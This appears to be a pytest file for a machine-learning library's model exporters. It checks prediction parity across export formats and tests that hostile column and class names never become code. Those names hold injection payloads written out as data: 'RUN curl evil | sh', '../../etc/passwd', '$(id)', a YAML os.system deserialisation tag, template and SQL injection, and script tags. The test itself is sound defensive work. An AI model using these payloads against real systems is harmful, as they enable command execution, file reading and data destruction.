"""Every form that a model leaves in: tables, texts and pictures, and names that would like to be code."""

from __future__ import annotations

import importlib.util
import json
import math
from dataclasses import dataclass, replace
from typing import TYPE_CHECKING, Any

import numpy as np
import pyarrow as pa
import pytest
import yaml
from sklearn.datasets import load_breast_cancer

import media_models as media
import small_models as small
from luban.core import plugins
from luban.core.budget import Effort
from luban.core.errors import Conflict
from luban.core.model import Signature
from luban.core.protocols import Examples
from luban.core.schema import Column
from luban.core.task import Task
from luban.data.conform import conform
from luban.data.infer import infer_schema
from luban.learners.composite import Composite
from luban.learners.fitted import Fitted, fitted

if TYPE_CHECKING:
    from pathlib import Path

FORMS = {"python": "", "docker": "model", "mlflow": "data", "triton": "client"}
"""Where in each form's folder the program is that reads rows."""
HOSTILE = 'x"\nRUN curl evil | sh\n#${HOME}`id`$(id): {a: b}\r\n- "}\u2028| <script> ../../etc/passwd'


def program(folder: Path) -> Any:
    spec = importlib.util.spec_from_file_location("exported_predict", folder / "predict.py")
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def learnt(name: str, table: pa.Table, labels: list[str]) -> tuple[Fitted, pa.Table]:
    """Return a small fit, and its canonical rows."""
    classes = tuple(sorted(set(labels)))
    schema = infer_schema(table)
    task = Task(kind="binary", target="label", inputs=schema.names, metric="roc_auc", classes=classes)
    canonical = conform(table, schema.columns).table
    target = np.array([classes.index(one) for one in labels])
    learner = plugins.create("learners", name)
    parameters = dict(learner.suggestions(task)[0].parameters)
    effort = Effort(deadline=math.inf, threads=1)
    examples = Examples(table=canonical, target=target)
    made = learner.fit(task, schema, examples, None, parameters=parameters, effort=effort)
    return fitted(Composite(members=(made,), weights=(1.0,), task=task), schema), canonical


def breast_cancer() -> tuple[Fitted, list[dict[str, Any]], pa.Table]:
    frame = load_breast_cancer(as_frame=True).frame
    labels = ["benign" if one else "malignant" for one in frame.pop("target")]
    table = pa.Table.from_pandas(frame, preserve_index=False)
    model, canonical = learnt("linear", table, labels)
    return model, table.to_pylist(), canonical


def texts() -> tuple[Fitted, list[dict[str, Any]], pa.Table]:
    good, bad = (
        ["a very good film", "I liked it, 好看", "great acting"],
        ["a bad film", "boring, 难看", "waste of time"],
    )
    table = pa.table({"review": [f"{one} {place}" for place in range(20) for one in (*good, *bad)]})
    labels = ["good", "good", "good", "bad", "bad", "bad"] * 20
    model, canonical = learnt("text_ngrams", table, labels)
    return model, table.to_pylist(), canonical


def pictures() -> tuple[Fitted, list[dict[str, Any]], pa.Table]:
    rows = [{"photo": media.plain(media.picture(level)), "sound": None, "age": level / 10} for level in (0, 90, 250)]
    return media.fitted(), rows, conform(rows, media.COLUMNS).table


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("kind", [breast_cancer, texts, pictures])
def test_tables_texts_and_pictures_leave_in_every_form(form: str, kind: Any, tmp_path: Path) -> None:
    model, rows, canonical = kind()
    examples = Examples(table=canonical.slice(0, 200), target=np.zeros(min(200, canonical.num_rows)))
    done = plugins.create("exporters", form).export(model, str(tmp_path), examples, reference="a_model/2")
    assert done["parity"] <= 1e-5
    folder = tmp_path / FORMS[form]
    if form == "triton":  # the graph runs on the server: here it is put beside its client
        (folder / "model.onnx").symlink_to(tmp_path / "model_repository" / "a_model" / "1" / "model.onnx")
    found = program(folder).Model(folder).values(rows)
    np.testing.assert_allclose(found, model.model.predict(canonical), atol=1e-5)


@dataclass(frozen=True, kw_only=True)
class Named:
    """A model of columns with any names: the first is a number."""

    task: Task
    columns: tuple[str, ...]
    learner: str = "named"
    learned: Any = None

    def predict(self, rows: pa.Table) -> np.ndarray:
        positive = 1 / (1 + np.exp(-np.nan_to_num(rows[self.columns[0]].to_numpy().astype(np.float64))))
        return np.column_stack([1 - positive, positive])

    def save(self) -> dict[str, bytes]:
        return {}

    def to_graph(self, graph: Any) -> str:
        number = graph.column(self.columns[0])
        zero = graph.constant(np.zeros(1, dtype=np.float32))
        positive = graph.node("Sigmoid", graph.node("Where", graph.node("IsNaN", number), zero, number))
        one = graph.constant(np.ones(1, dtype=np.float32))
        return str(graph.node("Concat", graph.node("Sub", one, positive), positive, axis=1))


def hostile() -> Fitted:
    """Return a model all of whose names would like to be code."""
    names = (
        HOSTILE,
        "../../etc/passwd",
        "${LUBAN_TOKEN}",
        "a: !!python/object/apply:os.system [id]",
        "{{7*7}}",
        "\u202e",
    )
    columns = tuple(Column(name=name, kind="number" if not place else "category") for place, name in enumerate(names))
    classes = ("]}\n- evil", "'; DROP TABLE models; --")
    task = Task(kind="binary", target=HOSTILE, inputs=names, metric="roc_auc", classes=classes)
    model = Composite(members=(Named(task=task, columns=names),), weights=(1.0,), task=task)
    return Fitted(task=task, signature=Signature(inputs=columns, outputs=()), model=model)


@pytest.mark.parametrize("form", FORMS)
def test_no_name_becomes_code(form: str, tmp_path: Path) -> None:
    """Files for other tools are parsed as these parse them, and hold what those of a harmless model hold."""
    exporter, model = plugins.create("exporters", form), hostile()
    exporter.export(model, str(tmp_path / "evil"), reference=f"{HOSTILE}/1")
    exporter.export(small.fitted(small.BINARY), str(tmp_path / "plain"), reference="model/1")
    evil, plain = (
        sorted(str(path.relative_to(folder)) for path in folder.rglob("*"))
        for folder in (tmp_path / "evil", tmp_path / "plain")
    )
    if form != "triton":
        assert evil == plain
    assert {one.name for one in tmp_path.iterdir()} == {"evil", "plain"}
    folder = tmp_path / "evil" / FORMS[form]
    described = json.loads((folder / "signature.json").read_text())
    assert [one["column"] for one in described["inputs"]] == list(model.task.inputs)
    for path in (tmp_path / "evil").rglob("*.md"):
        assert not [line for line in path.read_text().splitlines() if line.startswith(("RUN", "#$", "- "))]
    for path in [*(tmp_path / "evil").rglob("*.yaml"), *(tmp_path / "evil").rglob("MLmodel")]:
        one, other = (yaml.safe_load((tmp_path / which / path.name).read_text()) for which in ("evil", "plain"))
        assert shape(one) == shape(other)
    if form == "mlflow":
        found = yaml.safe_load((tmp_path / "evil" / "MLmodel").read_text())
        assert list(found["metadata"]["luban_kinds"]) == list(model.task.inputs)
    if form != "triton":
        ready = program(folder).Model(folder)
        (answer,) = ready.predict([{HOSTILE: 3}], missing="fill")
        assert answer["prediction"] == model.task.classes[1]


def shape(content: Any) -> Any:
    """Return the structure of a document without what stands in it: keys of its first two levels."""
    if not isinstance(content, dict):
        return type(content)
    return {
        key: sorted(value) if isinstance(value, dict) and key != "metadata" else None for key, value in content.items()
    }


@pytest.mark.parametrize("form", [*FORMS, "onnx"])
def test_a_folder_of_something_else_is_refused_by_every_form(form: str, tmp_path: Path) -> None:
    exporter, model = plugins.create("exporters", form), small.fitted(small.BINARY)
    (tmp_path / "thesis.tex").write_text("mine")
    with pytest.raises(Conflict, match=r"thesis\.tex"):
        exporter.export(model, str(tmp_path))
    assert [one.name for one in tmp_path.iterdir()] == ["thesis.tex"]
    exporter.export(model, str(tmp_path / "new"))
    other = replace(model, task=replace(model.task, target="other"))
    exporter.export(other, str(tmp_path / "new"))
